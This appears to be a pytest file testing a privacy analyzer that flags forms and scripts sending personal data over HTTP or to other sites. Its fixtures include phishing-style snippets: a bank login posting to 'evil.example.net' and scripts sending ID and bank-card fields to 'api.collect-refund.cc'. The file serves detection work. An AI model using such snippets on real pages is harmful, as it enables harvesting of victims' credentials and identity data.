"""Transport rules: for each rule a page that must be flagged and a near miss that must not."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from privacy_hygiene.analyzers.transport import TransportAnalyzer
from privacy_hygiene.catalog import Catalog
from privacy_hygiene.engine.runner import run_analyzers
from privacy_hygiene.models import Page, Severity

LOGIN = '<form action="{action}" method="{method}"><input name="u"><input type="password" name="p"></form>'
NEWSLETTER = '<form action="{action}" method="post"><input type="email" name="email"></form>'
SEARCH = '<form action="{action}"><input type="search" name="q"></form>'


def rules(page: Page, catalog: Catalog) -> dict[str, Severity]:
    findings, diagnostics, _ = run_analyzers(page, catalog, [TransportAnalyzer()])
    assert diagnostics == ()
    return {item.rule_id: item.severity for item in findings}


@pytest.mark.parametrize(
    ("url", "html", "expected"),
    [
        # a password over http is critical (and the JSON says insecure-transport)
        (
            "http://example.org/login",
            LOGIN.format(action="/s", method="post"),
            {"PH-TRANSPORT-020": Severity.CRITICAL},
        ),
        # an https page whose form posts to http
        (
            "https://example.org/login",
            LOGIN.format(action="http://example.org/s", method="post"),
            {"PH-TRANSPORT-020": Severity.CRITICAL},
        ),
        (
            "https://example.org/",
            NEWSLETTER.format(action="http://example.org/sub"),
            {"PH-TRANSPORT-030": Severity.HIGH},
        ),
        ("http://example.org/", NEWSLETTER.format(action="/sub"), {"PH-TRANSPORT-010": Severity.HIGH}),
        (
            "https://example.org/",
            LOGIN.format(action="/s", method="get"),
            {"PH-TRANSPORT-040": Severity.HIGH},
        ),
        (
            "https://example.org/",
            NEWSLETTER.format(action="https://collector.example.net/x"),
            {"PH-TRANSPORT-050": Severity.MEDIUM},
        ),
        (
            "https://bank.example.org/",
            LOGIN.format(action="https://evil.example.net/x", method="post"),
            {"PH-TRANSPORT-060": Severity.HIGH},
        ),
        (
            "https://example.org/",
            NEWSLETTER.format(action="https://203.0.113.7/x"),
            {"PH-TRANSPORT-070": Severity.HIGH},
        ),
        (
            "https://example.org/",
            NEWSLETTER.format(action="mailto:someone@example.org"),
            {"PH-TRANSPORT-080": Severity.MEDIUM},
        ),
    ],
)
def test_flagged(
    url: str, html: str, expected: dict[str, Severity], make_page: Callable[..., Page], catalog: Catalog
) -> None:
    assert rules(make_page(html, url), catalog) == expected


@pytest.mark.parametrize(
    ("url", "html"),
    [
        # the same login over https to itself
        ("https://example.org/login", LOGIN.format(action="/s", method="post")),
        # a subdomain of the same registrable domain is the same site
        ("https://www.example.org/login", LOGIN.format(action="https://auth.example.org/s", method="post")),
        # Chinese second-level suffix: same registrable domain
        ("https://www.icbc.com.cn/", LOGIN.format(action="https://mybank.icbc.com.cn/s", method="post")),
        # a form with nothing personal (only buttons / hidden inputs)
        ("http://example.org/", '<form action="/x"><input type="hidden" name="t"><button>Go</button></form>'),
    ],
)
def test_not_flagged(url: str, html: str, make_page: Callable[..., Page], catalog: Catalog) -> None:
    assert rules(make_page(html, url), catalog) == {}


def test_search_box_to_other_site_is_not_flagged(make_page: Callable[..., Page], catalog: Catalog) -> None:
    # a site search handled by a search engine carries nothing personal
    page = make_page(SEARCH.format(action="http://search.example.net/"), "https://example.org/")
    assert rules(page, catalog) == {}


def test_non_personal_field_to_other_site_is_only_low(make_page: Callable[..., Page], catalog: Catalog) -> None:
    html = '<form action="https://poll.example.net/vote"><select name="choice"><option>a</option></select></form>'
    assert rules(make_page(html, "https://example.org/"), catalog) == {"PH-TRANSPORT-050": Severity.LOW}


def test_private_suffix_sites_are_different_owners(make_page: Callable[..., Page], catalog: Catalog) -> None:
    page = make_page(LOGIN.format(action="https://other.github.io/x", method="post"), "https://mine.github.io/")
    assert "PH-TRANSPORT-060" in rules(page, catalog)


def test_base_href_resolves_action(make_page: Callable[..., Page], catalog: Catalog) -> None:
    html = '<base href="http://example.org/">' + LOGIN.format(action="s", method="post")
    assert rules(make_page(html, "https://example.org/"), catalog) == {"PH-TRANSPORT-020": Severity.CRITICAL}


def test_local_file_without_origin_has_no_transport_findings(make_page: Callable[..., Page], catalog: Catalog) -> None:
    assert rules(make_page(LOGIN.format(action="/s", method="post"), None), catalog) == {}


@pytest.mark.parametrize(
    ("page_url", "action", "expected"),
    [
        # a company group's single sign-on: both ends are protected brands' official domains
        ("https://pages.tmall.com/act/1111", "https://login.taobao.com/member/login.jhtml", Severity.LOW),
        # a phishing kit is never on an official domain; an official page posting elsewhere still alarms
        ("https://tmall-1111.shop/act", "https://login.taobao.com/member/login.jhtml", Severity.HIGH),
        ("https://pages.tmall.com/act/1111", "https://collect.example.net/login", Severity.HIGH),
    ],
)
def test_official_to_official_post_is_single_sign_on(
    page_url: str, action: str, expected: Severity, make_page: Callable[..., Page], catalog: Catalog
) -> None:
    found = rules(make_page(LOGIN.format(action=action, method="post"), page_url), catalog)
    assert max(found.values()) == expected


LOOSE_INPUTS = (
    '<div class="box">姓名<input id="n"> 身份证号<input id="i"> 银行卡号<input id="c">'
    '<a id="go" href="#">提交</a></div><script>{script}</script>'
)
SENDERS = {
    "fetch": 'document.getElementById("go").onclick=function(){{fetch("{url}",{{method:"POST",body:x}})}}',
    "xhr": 'var r=new XMLHttpRequest();r.open("POST","{url}");r.send(d);',
    "beacon": 'navigator.sendBeacon("{url}", q);',
    "action": 'var f=document.createElement("form");f.method="post";f.action="{url}";',
    "jquery": '$.ajax({{url:"{url}",type:"POST",data:d}});',
}


@pytest.mark.parametrize("sender", sorted(SENDERS))
def test_a_script_sending_the_inputs_to_another_site(
    sender: str, make_page: Callable[..., Page], catalog: Catalog
) -> None:
    script = SENDERS[sender].format(url="https://api.collect-refund.cc/save.php")
    page = make_page(LOOSE_INPUTS.format(script=script), "https://www.tuikuan-help.com/apply")
    assert rules(page, catalog).get("PH-TRANSPORT-060") == Severity.HIGH


@pytest.mark.parametrize(
    ("url", "script"),
    [
        # the same site's own API
        ("https://shop.example.com/apply", SENDERS["fetch"].format(url="https://api.example.com/save")),
        # an analytics beacon carries page views, not what is typed
        ("https://shop.example.com/apply", SENDERS["beacon"].format(url="https://www.google-analytics.com/g/collect")),
    ],
)
def test_a_script_that_sends_nothing_typed_elsewhere_is_not_flagged(
    url: str, script: str, make_page: Callable[..., Page], catalog: Catalog
) -> None:
    found = rules(make_page(LOOSE_INPUTS.format(script=script), url), catalog)
    assert "PH-TRANSPORT-060" not in found and "PH-TRANSPORT-050" not in found


def test_a_script_sender_on_a_page_that_asks_nothing_is_not_flagged(
    make_page: Callable[..., Page], catalog: Catalog
) -> None:
    script = SENDERS["fetch"].format(url="https://api.other-site.cc/log")
    page = make_page(f"<p>Hello</p><script>{script}</script>", "https://www.example.com/")
    assert not rules(page, catalog)


@pytest.mark.parametrize(
    ("inputs", "rule"),
    [
        ('手机号<input id="m"> 验证码<input id="c">', "PH-TRANSPORT-020"),  # a one-time code: a secret
        ('姓名<input id="n"> 手机号<input id="m">', "PH-TRANSPORT-010"),
    ],
)
def test_inputs_outside_a_form_on_an_http_page(
    inputs: str, rule: str, make_page: Callable[..., Page], catalog: Catalog
) -> None:
    page = make_page(f'<div class="box">{inputs}<a href="#" id="go">领取</a></div>', "http://hongbao.example.xyz/")
    assert rule in rules(page, catalog)
    same = make_page(f'<div class="box">{inputs}<a href="#" id="go">领取</a></div>', "https://hongbao.example.xyz/")
    assert not {"PH-TRANSPORT-010", "PH-TRANSPORT-020"} & set(rules(same, catalog))
